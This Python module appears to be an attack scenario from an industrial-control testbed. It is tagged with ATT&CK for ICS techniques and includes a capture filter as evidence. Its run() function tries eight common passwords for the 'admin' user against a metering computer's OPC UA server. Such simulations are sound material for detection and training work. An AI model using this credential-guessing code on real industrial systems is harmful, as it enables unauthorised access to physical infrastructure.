"""Passwords are tried on the metering computer's OPC UA server."""

from __future__ import annotations

import contextlib

from asyncua import Client

from ..node import Node

TITLE = "Passwords tried on the OPC UA server of the metering computer by a new client"
TECHNIQUES = ("T0859", "T0886")
ORIGIN = "laptop"
ENTITIES = ("laptop", "ipc-metering")
EVIDENCE = "opcua && ip.src == 10.20.1.99"


async def run(node: Node) -> None:
    """Eight sessions with eight passwords."""
    for word in ("admin", "1234", "opcua", "password", "system", "operator", "root", "secret"):
        client = Client(f"opc.tcp://{node.peer('ipc-metering')}:4840/", timeout=2)
        client.set_user("admin")
        client.set_password(word)
        with contextlib.suppress(Exception):
            await client.connect()
        with contextlib.suppress(Exception):
            await client.disconnect()
        node.pause(0.3)
